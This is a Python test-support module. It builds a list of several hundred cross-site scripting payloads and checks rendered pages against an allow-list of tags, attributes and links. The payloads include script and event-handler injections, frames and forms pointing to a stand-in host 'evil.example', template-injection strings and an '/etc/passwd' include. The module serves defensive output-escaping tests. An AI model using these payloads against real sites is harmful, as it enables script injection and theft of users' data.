"""300 pieces of hostile HTML, and what a page of ours may consist of: whoever looks at a page as a browser does finds nothing else."""

from __future__ import annotations

import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser

#: What ends the place that it was put into.
_BEFORE = ("", '">', "'>", "</textarea>", "</title>", "</style>", "</bdi></h1>", "--><!--", "]]>", "</p><p>\n", "\" autofocus x='", "<!--")
_ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/x"></iframe>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="https://evil.example/x">',
    '<link rel=stylesheet href="//evil.example/x">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/x">',
    '<style>@import "https://evil.example/x";</style>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/x"><input name=score value=1>',
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<x style=background:url(//evil.example/x)>x</x>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<marquee onstart=alert(1)>x</marquee>",
)
_ODD = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "%(score)s %s %d",
    "${7*7}",
    "<scr\x00ipt>alert(1)</script>",
    "\u202ecod.exe",
    "+ADw-script+AD4-",
    "<ſcript>alert(1)</ſcript>",
    "<a\tb=c\nd>",
    "\ufeff<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php x ?>",
)
PAYLOADS = tuple(dict.fromkeys((*(before + active for active in _ACTIVE for before in _BEFORE), *_ODD)))

_TAGS = frozenset(
    "html head meta title style body header main footer h1 h2 h3 p br bdi dl dt dd a form fieldset legend label input span textarea button "
    "article div ul li".split()
)
_ATTRIBUTES = frozenset(
    "lang dir charset name content class href download method type value required checked for id maxlength role".split()
)
_META = {
    ("color-scheme", "light dark"),
    ("referrer", "no-referrer"),
    ("robots", "noindex"),
    ("viewport", "width=device-width, initial-scale=1"),
}


def foreign(html: str, style: str) -> Iterator[str]:
    """What is in a page that none of ours has. Read with the rules of HTML5, as a browser does."""
    styles = 0
    for node in LexborHTMLParser(html).root.traverse(include_text=False):  # type: ignore[union-attr]
        tag, attributes = node.tag, node.attributes
        if tag not in _TAGS and tag != "-undef" and tag != "!doctype":
            yield f"<{tag}>"
        for name, value in attributes.items():
            if name not in _ATTRIBUTES:
                yield f"{tag} {name}={value}"
        target = attributes.get("href")
        if target is not None and not re.fullmatch(
            r"mailto:support[\w.+-]*@example\.org\?[\w%=&.+-]*|\?|[0-9a-z.]+/f/[0-9a-f]{20}", target
        ):
            yield f"{tag} href={target}"
        if tag == "meta" and "charset" not in attributes and (attributes.get("name"), attributes.get("content")) not in _META:
            yield f"meta {attributes}"
        if tag == "form" and dict(attributes) != {"method": "post"}:
            yield f"form {attributes}"
        if tag == "style":
            styles += 1
            if node.text() != style:
                yield "style of somebody else"
    if styles != 1:
        yield f"{styles} styles"
